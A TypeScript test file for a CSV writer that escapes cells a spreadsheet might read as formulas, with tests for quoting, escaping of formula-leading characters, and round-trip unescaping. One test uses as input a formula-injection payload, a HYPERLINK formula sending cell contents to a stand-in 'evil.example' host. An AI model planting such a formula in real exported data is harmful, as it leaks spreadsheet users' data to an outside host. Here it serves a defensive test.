import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, formulaUnescaped } from '../../../../src/files/csv-writer';

/** The cells a spreadsheet reads from `text`. */
function cellsOf(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text);
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const LEADS = [
  ['an equals sign', '='],
  ['a plus sign', '+'],
  ['a minus sign', '-'],
  ['an at sign', '@'],
  ['a tab', '\t'],
  ['a carriage return', '\r'],
] as const;

describe('csvText', () => {
  it('quotes cells that need it and ends rows with CRLF', () => {
    expect(
      csvText([
        ['Row', 'Name'],
        ['2', 'Smith, Bella'],
        ['3', 'Rex "the Tank"'],
        ['4', 'Two\nlines'],
      ]),
    ).toBe('Row,Name\r\n2,"Smith, Bella"\r\n3,"Rex ""the Tank"""\r\n4,"Two\nlines"');
  });

  it.each(LEADS)('escapes a cell that starts with %s', (_, lead) => {
    expect(csvText([[`${lead}1+1`, 'Dog']])).toBe(`"'${lead}1+1",Dog`);
  });

  it.each(LEADS)('escapes a cell that starts with %s and holds a line break', (_, lead) => {
    expect(csvText([[`${lead}1+1\n`, 'Dog']])).toBe(`"'${lead}1+1\n",Dog`);
    expect(csvText([[`${lead}1+1\r\nmore`]])).toBe(`"'${lead}1+1\r\nmore"`);
    expect(csvText([[`${lead}\n`]])).toBe(`"'${lead}\n"`);
  });

  it('escapes each cell that starts like a formula, row after row', () => {
    expect(
      csvText([
        ['Name', 'Category'],
        ['=SUM(A1)', 'Dog'],
        ['+1', '-2'],
        ['@cmd', 'Cat'],
      ]),
    ).toBe('Name,Category\r\n"\'=SUM(A1)",Dog\r\n"\'+1","\'-2"\r\n"\'@cmd",Cat');
  });

  it('escapes a formula whose text holds quotes and commas', () => {
    expect(csvText([['=HYPERLINK("https://evil.example/?leak="&A1,"Dog")']])).toBe(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Dog"")"`,
    );
  });

  it('leaves a harmless cell as it is, a formula sign anywhere but first included', () => {
    const harmless = ['Bella', 'a=b', 'Rex-Max', 'x+y', 'me@shelter', "'quoted", "O'Malley", '5'];
    expect(csvText([harmless])).toBe(harmless.join(','));
    expect(csvText([['Bella\n=1+1']])).toBe('"Bella\n=1+1"');
    expect(csvText([['', ' ']])).toBe('," "');
  });

  it('writes a cell already led by a quote and a formula sign with one quote more', () => {
    expect(csvText([["'=1+1", "''-2"]])).toBe(`"''=1+1","'''-2"`);
  });
});

describe('formulaUnescaped', () => {
  it('gives back every cell exactly as it was before it was written', () => {
    const cells = [
      '=1+1',
      '+1',
      '-2',
      '@SUM(1+1)',
      '\tTab',
      '\rReturn',
      '=1+1\n',
      "'=already",
      "''-twice",
      "'quoted",
      "O'Malley",
      "'",
      'Bella',
      '',
    ];
    const [read = []] = cellsOf(csvText([cells]));
    expect(read.map(formulaUnescaped)).toEqual(cells);
  });

  it('leaves a quote that is not before a formula sign', () => {
    expect(formulaUnescaped("'Tiny")).toBe("'Tiny");
    expect(formulaUnescaped("x'=1")).toBe("x'=1");
  });
});
